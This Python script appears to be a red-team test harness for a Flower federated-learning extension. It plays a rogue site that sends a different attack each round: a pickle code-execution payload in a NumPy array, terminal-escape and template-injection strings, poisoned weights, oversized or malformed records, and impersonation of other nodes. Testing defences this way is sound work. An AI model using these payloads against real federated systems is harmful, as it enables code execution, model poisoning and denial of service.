# Copyright: (c) 2026, fedops.flower contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""A site with a registered key that speaks Flower's protocol itself, and answers each round with another attack.

evil_site.py ADDRESS AUTHORITY KEY NODES REPORT: NODES are the ids of the other SuperNodes, with commas. What it got
goes to REPORT, after every round. While there is a file REPORT.small, it leaves out what takes the SuperLink hundreds
of megabytes. It ends when it is told to.
"""

from __future__ import annotations

import contextlib
import importlib
import io
import json
import sys
import tempfile
import time
import zipfile
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import httpx
import numpy as np
from cryptography.hazmat.primitives.serialization import load_ssh_private_key
from flwr.app import Array, ArrayRecord, ConfigRecord, Error, Message, MetricRecord, RecordDict
from flwr.app.message import remove_content_from_message
from flwr.proto.fleet_pb2 import (
    DeactivateNodeRequest,
    PullMessagesRequest,
    RegisterNodeFleetRequest,
    UnregisterNodeFleetRequest,
)
from flwr.proto.heartbeat_pb2 import SendNodeHeartbeatRequest
from flwr.proto.node_pb2 import Node
from flwr.supercore.inflatable.inflatable_object import get_all_nested_objects, get_object_tree
from flwr.supercore.inflatable.inflatable_utils import ObjectPushError, pull_and_inflate_object_from_tree
from flwr.supercore.interceptors.http.runtime_version import RuntimeVersionHttpInterceptor
from flwr.supercore.primitives.asymmetric import generate_key_pairs, public_key_to_bytes
from flwr.supernode.fleet_http_client import FleetHttpClient
from flwr.supernode.fleet_http_connection import http_request_response
from flwr.supernode.node_auth_http_interceptor import NodeAuthHttpInterceptor

ESCAPES = "\x1b]0;owned\x07\x1b[2J\u202e{{ lookup('pipe', 'touch /tmp/owned-by-template') }}"
MEGABYTE = 1 << 20
PAUSE = 0.5
LARGE = ("5,000 metrics", "64 MB more", "20 MB of an error", "200,000 names", "a table too deep")


def numpy_file(dtype: str, shape: str, content: bytes) -> bytes:
    """Return a NumPy file with a header as it is given."""
    header = f"{{'descr': {dtype}, 'fortran_order': False, 'shape': {shape}, }}".encode()
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + content


def raw(name: str, array: Array, dtype: str, shape: str, content: bytes = b"") -> tuple[str, Array]:
    """Return an array whose header lies."""
    return name, Array(dtype=array.dtype, shape=array.shape, stype=array.stype, data=numpy_file(dtype, shape, content))


class Site:
    """What the site knows of a round, and the replies that it makes of it."""

    def __init__(self, message: Message, kit: SimpleNamespace) -> None:
        self.integrity, self.packing = kit.integrity, kit.packing
        is_packed = self.packing.PACKED in message.content
        content = self.packing.unpack(message.content) if is_packed else message.content
        self.model = content.array_records["arrays"]

    def content(self, arrays: ArrayRecord, site: str = "site2", metrics: dict | None = None) -> RecordDict:
        """Return a reply that is whole in everything but what it is made of."""
        about = ConfigRecord({"site": site, self.integrity.FINGERPRINT: self.integrity.fingerprint(arrays)})
        numbers = MetricRecord({"num-examples": 100, "train_loss": 0.1, **(metrics or {})})
        return RecordDict({"arrays": arrays, "metrics": numbers, "site": about})

    def first(self, dtype: str, shape: str, content: bytes = b"") -> RecordDict:
        """Return a reply whose first array has a header of its own."""
        (name, array), *others = self.model.items()
        return self.content(ArrayRecord(dict([raw(name, array, dtype, shape, content), *others])))

    def poisoned(self) -> ArrayRecord:
        """Return a model far away from the one that was sent."""
        return ArrayRecord({name: Array(array.numpy() * 0 - 1e6) for name, array in self.model.items()})

    def extra(self) -> dict[str, list[float]]:
        """Return metrics that nobody asked for."""
        return {f"extra{ESCAPES}{number}": [1.0] * 10 for number in range(5000)}

    def larger(self) -> ArrayRecord:
        """Return the model with an array more."""
        return ArrayRecord({**dict(self.model.items()), "more": Array(np.zeros(64 * MEGABYTE // 8))})

    def table(self, change: Callable[[list], object], version: int = 1, text: bytes = b"") -> RecordDict:
        """Return a packed reply whose table lies: changed, or a text of its own."""
        content = self.packing.pack(self.content(ArrayRecord(dict(self.model.items()))))
        rows = json.loads(content[self.packing.PACKED]["table"])
        change(rows)
        table = text or json.dumps(rows).encode()
        content[self.packing.PACKED] = ConfigRecord({"version": version, "table": table})
        return content

    def other_parts(self) -> RecordDict:
        """Return a packed reply whose parts are arrays."""
        content = self.table(lambda rows: None)
        content[self.packing.PARTS] = ArrayRecord({"0": Array(np.zeros(10))})
        return content

    def attacks(self) -> dict[str, Callable[[], RecordDict | Error]]:
        """Return the attacks in their order, one for each round."""
        found = self.arrays()
        packed = {f"{name}, packed": partial(self.packed, make) for name, make in found.items()}
        return {**found, **packed, **self.tables()}

    def packed(self, make: Callable[[], RecordDict | Error]) -> RecordDict | Error:
        """Return an attack as the app packs it."""
        made = make()
        return made if isinstance(made, Error) else self.packing.pack(made)

    def tables(self) -> dict[str, Callable[[], RecordDict | Error]]:
        """Return the attacks on what tells of the parts."""
        empty = [[f"n{number}", "float32", [0], "numpy.ndarray", 0] for number in range(200_000)]

        def size(number: int) -> RecordDict:
            return self.table(lambda rows: rows[0][1][0].__setitem__(-1, number))

        return {
            "an array twice": lambda: self.table(lambda rows: rows[0][1].append(rows[0][1][0])),
            "a record twice": lambda: self.table(lambda rows: rows.append(rows[0])),
            "sizes that do not add up": lambda: size(1),
            "a negative size": lambda: size(-1),
            "2 GB announced": lambda: size(2 << 30),
            "200,000 names": lambda: self.table(lambda rows: rows[0][1].extend(empty)),
            "an unknown version": lambda: self.table(lambda rows: None, version=99),
            "a table that is none": lambda: self.table(lambda rows: None, text=b"{}"),
            "a table too deep": lambda: self.table(lambda rows: None, text=b"[" * 100_000),
            "other parts": self.other_parts,
        }

    def arrays(self) -> dict[str, Callable[[], RecordDict | Error]]:
        """Return the attacks by arrays, metrics, names and errors."""
        return {
            "void array": lambda: self.first("'|V0'", "(-1,)"),
            "empty bytes": lambda: self.first("'|S0'", "(-1,)"),
            "empty text": lambda: self.first("'<U0'", "(-1,)"),
            "object array": lambda: self.first("'|O'", "(1,)", b"cos\nsystem\n(S'touch /tmp/owned'\ntR."),
            "enormous shape": lambda: self.first("'<f8'", "(9223372036854775807, 4)"),
            "name of another, and a metric more": lambda: self.content(self.poisoned(), "!", {"more": 1.0}),
            "name of another": lambda: self.content(self.poisoned(), "site1", {ESCAPES: 1.0}),
            "5,000 metrics": lambda: self.content(self.poisoned(), ESCAPES * 1000, self.extra()),
            "64 MB more": lambda: self.content(self.larger()),
            "20 MB of an error": lambda: Error(code=0, reason=ESCAPES * (20 * MEGABYTE // len(ESCAPES))),
        }


def kit_of(fab: bytes) -> SimpleNamespace:
    """Return what makes fingerprints and packs, from what the SuperLink gives to every site."""
    folder = tempfile.mkdtemp()
    zipfile.ZipFile(io.BytesIO(fab)).extractall(folder)
    sys.path.insert(0, folder)
    package = next(Path(folder).glob("*/integrity.py")).parent.name
    return SimpleNamespace(**{name: importlib.import_module(f"{package}.{name}") for name in ("integrity", "packing")})


@contextlib.contextmanager
def client(address: str, authority: str, keys: tuple[Any, Any]) -> Iterator[FleetHttpClient]:
    """Give a client that signs with a key."""
    interceptors = [RuntimeVersionHttpInterceptor(component_name="SuperNode"), NodeAuthHttpInterceptor(*keys)]
    with FleetHttpClient.from_server_address(address, False, authority, interceptors=interceptors) as made:
        yield made


def as_somebody_else(address: str, authority: str, keys: tuple[Any, Any], nodes: list[int]) -> list[str]:
    """Speak for the other SuperNodes, with the own key and with one that nobody knows."""
    strangers = generate_key_pairs()
    got = []
    for who, pair in (("site", keys), ("stranger", strangers)):
        with client(address, authority, pair) as fleet:
            asked = {
                "register": lambda: fleet.RegisterNode(
                    RegisterNodeFleetRequest(public_key=public_key_to_bytes(strangers[1]))
                )
            }
            for number in nodes:
                node = Node(node_id=number)
                asked |= {
                    f"pull {number}": lambda node=node: fleet.PullMessages(PullMessagesRequest(node=node)),
                    f"heartbeat {number}": lambda node=node: fleet.SendNodeHeartbeat(
                        SendNodeHeartbeatRequest(node=node, heartbeat_interval=30)
                    ),
                    f"deactivate {number}": lambda number=number: fleet.DeactivateNode(
                        DeactivateNodeRequest(node_id=number)
                    ),
                    f"unregister {number}": lambda number=number: fleet.UnregisterNode(
                        UnregisterNodeFleetRequest(node_id=number)
                    ),
                }
            for name, ask in asked.items():
                with contextlib.suppress(httpx.HTTPError):
                    ask()
                    got.append(f"{who}: {name}")
    return got


def main() -> None:
    """Attack until somebody ends it."""
    address, authority, key_file, nodes, report = sys.argv[1:6]
    small = Path(f"{report}.small")
    private = load_ssh_private_key(Path(key_file).read_bytes(), None)
    keys = (private, private.public_key())
    told: dict[str, Any] = {"rounds": [], "problems": []}

    def save() -> None:
        Path(report).write_text(json.dumps(told))

    told["as somebody else"] = as_somebody_else(
        address, authority, keys, [int(node) for node in nodes.split(",") if node]
    )
    save()
    with http_request_response(address, False, authority, keys) as connection:
        node_id, receive, send, _get_run, get_fab, pull_object, push_object, confirm = connection
        told["node_id"] = str(node_id)
        save()
        while True:
            time.sleep(PAUSE)
            if (received := receive()) is None:
                continue
            header, tree = received
            run_id = header.metadata.run_id
            try:
                message = pull_and_inflate_object_from_tree(
                    tree,
                    partial(pull_object, run_id),
                    partial(confirm, run_id),
                    return_type=Message,
                )
                message.metadata.__dict__["_message_id"] = tree.object_id
                run = _get_run(run_id)
                site = Site(message, kit_of(get_fab(run.fab_hash, run_id).content))
                attacks = site.attacks()
                names = [name for name in attacks if not (small.exists() and name.startswith(LARGE))]
                name = names[len(told["rounds"]) % len(names)]
                made = attacks[name]()
                reply = Message(made, reply_to=message)
                reply.metadata.__dict__["_message_id"] = reply.object_id
                objects = get_all_nested_objects(reply)
                tree = get_object_tree(reply)
                wanted, session = send(remove_content_from_message(reply) if reply.has_content() else reply, tree, 1.0)
                with contextlib.suppress(ObjectPushError):  # the ServerApp has refused it by what it announces
                    for object_id in wanted:
                        push_object(run_id, session, object_id, objects[object_id].deflate())
                told["rounds"].append(name)
            except Exception as error:  # the next round is another attack
                told["rounds"].append(f"{type(error).__name__}")
                told["problems"].append(str(error)[:500])
            save()


if __name__ == "__main__":
    main()
